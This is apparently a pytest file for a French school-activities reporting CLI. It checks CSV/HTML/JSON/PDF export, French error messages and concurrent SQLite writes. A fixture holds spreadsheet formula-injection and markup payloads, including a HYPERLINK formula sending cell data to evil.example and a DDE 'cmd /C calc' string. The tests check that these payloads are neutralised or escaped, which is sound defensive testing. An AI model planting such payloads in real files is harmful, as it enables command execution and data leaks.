"""`tne report` as people run it: the four formats, CSV and JSON on stdout, files with --out;
formula-injection strings in every text field neutralised in CSV and escaped in HTML; bad
requests refused in French with exit 2; two `tne registry sessions record` loops on one SQLite
file losing nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from activities.registry.service import Registry
from tests.helpers.pango import run_without_pango
from tests.registry.test_cli import ROOT, ok

HOSTILE = {
    "school": '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "commune": "+33 Bourges",
    "title": "-2+3 <script>alert('x')</script>",
    "level": "@SUM(A1:A9)",
    "group": "=1+1",
    "activity": "@cmd|' /C calc'!A0",
    "call": "=CALL()",
}


def report(*args: str, db: str, timeout: float = 120) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("TNE_LANG", "TNE_DB_URL")}
    return subprocess.run(
        [sys.executable, "-m", "tne.cli", "report", *args, "--db", db],
        capture_output=True,
        env=env,
        cwd=ROOT,
        timeout=timeout,
    )


@pytest.fixture
def hostile(registry: Registry) -> int:
    """A registry whose every text field is a formula or markup; the project's id."""
    registry.add_school("0180005H", HOSTILE["school"], HOSTILE["commune"], 1)
    project = registry.create_project("0180005H", HOSTILE["title"], HOSTILE["level"]).id
    registry.add_group(project, HOSTILE["group"], 24, 12)
    registry.add_group(project, "Atelier", 4, 1)
    registry.record_session(project, HOSTILE["group"], HOSTILE["activity"], "2026-03-15", 60)
    registry.record_session(project, "Atelier", HOSTILE["activity"], "2026-03-16", 30)
    registry.save_dossier("DS-1", HOSTILE["call"], "accepte", granted_cents=150_050)
    registry.link_project(project, "DS-1")
    return project


def cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for French spreadsheets"
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def test_csv_neutralises_formulas_in_every_text_field(db_url: str, hostile: int) -> None:
    everything = []
    scopes = (
        [],
        ["--school", "0180005H"],
        ["--project", str(hostile)],
        ["--call", HOSTILE["call"]],
    )
    for scope in scopes:
        done = report(*scope, "--format", "csv", db=db_url)
        assert done.returncode == 0, done.stderr.decode()
        everything += cells(done.stdout)
    assert not [c for c in everything if c[:1] in ("=", "+", "-", "@")]
    for text in HOSTILE.values():
        assert "'" + text in everything, text
    assert "1500,50" in everything  # money with a decimal comma


def test_html_escapes_every_text_field_and_pdf_is_a_pdf(
    db_url: str, hostile: int, tmp_path: Path
) -> None:
    page = tmp_path / "rapport.html"
    done = report("--project", str(hostile), "--format", "html", "--out", str(page), db=db_url)
    assert done.returncode == 0, done.stderr.decode()
    html = page.read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html
    assert '<html lang="fr">' in html and "Élèves concernés" in html and "<svg" in html
    assert "&lt;10" in html  # the workshop of 4
    pdf = tmp_path / "rapport.pdf"
    done = report("--format", "pdf", "--out", str(pdf), db=db_url)
    assert done.returncode == 0, done.stderr.decode()
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 5000


def test_without_pango_a_pdf_report_falls_back_to_html_and_says_so_in_french(
    db_url: str, hostile: int, tmp_path: Path
) -> None:
    """Windows without GTK, or Linux without libpango: the report is not lost, it is written
    as HTML next to where the PDF was asked, with a French line that says how to get a PDF."""
    asked = tmp_path / "rapport.pdf"
    env = {k: v for k, v in os.environ.items() if k not in ("TNE_LANG", "TNE_DB_URL")}
    command = [sys.executable, "-m", "tne.cli", "report", "--format", "pdf", "--out", str(asked)]
    done = run_without_pango([*command, "--db", db_url], env=env, cwd=str(ROOT))
    assert done.returncode == 0, done.stderr
    assert not asked.exists()
    page = tmp_path / "rapport.html"
    assert '<html lang="fr">' in page.read_text(encoding="utf-8")
    assert "L'export PDF n'est pas disponible sur cet ordinateur" in done.stderr
    assert "imprimez-la en PDF depuis le navigateur" in done.stderr
    assert "Rapport écrit dans" in done.stderr and "rapport.html" in done.stderr


def test_json_goes_to_stdout_and_hides_small_counts(db_url: str, hostile: int) -> None:
    done = report("--project", str(hostile), "--format", "json", "--threshold", "5", db=db_url)
    assert done.returncode == 0, done.stderr.decode()
    data = json.loads(done.stdout)
    assert data["threshold"] == 5
    groups = {r["label"]: r for r in data["rows"]}
    assert groups["Atelier"]["pupils"] == "<5"
    assert groups[HOSTILE["group"]]["pupils"] == "s"
    assert data["total"]["pupils"] == 28
    assert data["money"]["granted_euros"] == 1500.5


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--from", "2026-02-30"], "n'est pas une date"),
        (
            ["--from", "01/03/2026", "--to", "2026-01-01"],
            "La période se termine (01/01/2026) avant de commencer (01/03/2026).",
        ),
        (["--project", "99"], "Il n'y a pas de projet 99"),
        (["--school", "0180007K"], "n'est pas dans le registre"),
        (["--school", "0180005A"], "0180005A"),
        (["--call", "Inconnu"], "Aucun dossier"),
        (["--format", "docx"], "Format inconnu"),
    ],
)
def test_bad_requests_exit_2_in_french(db_url: str, hostile: int, args, message) -> None:
    fmt = [] if "--format" in args else ["--format", "json"]
    done = report(*args, *fmt, db=db_url)
    assert done.returncode == 2
    assert message in done.stderr.decode()
    assert done.stdout == b""


def test_two_cli_loops_recording_sessions_on_one_sqlite_file_lose_nothing(
    tmp_path: Path,
) -> None:
    url = f"sqlite:///{tmp_path / 'registry.sqlite3'}"
    registry = Registry.open(url)
    registry.init()
    registry.add_school("0180005H", "École Jean Zay", "Bourges", 1)
    project = registry.create_project("0180005H", "Robots", "CM2").id
    registry.add_group(project, "CM2 A", 24, 12)
    registry.close()
    loop = (
        'for n in 1 2 3 4 5 6; do "$0" -m tne.cli registry sessions record "$1" --group "CM2 A"'
        ' --activity "$2" --date 2026-03-15 --minutes "$((30 + n))" --device microbit'
        ' --db "$3" >/dev/null || exit 1; done'
    )
    loops = [
        subprocess.Popen(
            ["sh", "-c", loop, sys.executable, str(project), name, url],
            cwd=ROOT,
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in ("atelier-a", "atelier-b")
    ]
    for process in loops:
        _out, err = process.communicate(timeout=300)
        assert process.returncode == 0, err
    status = json.loads(ok("status", "--json", db=url))
    assert status["counts"]["sessions"] == 12
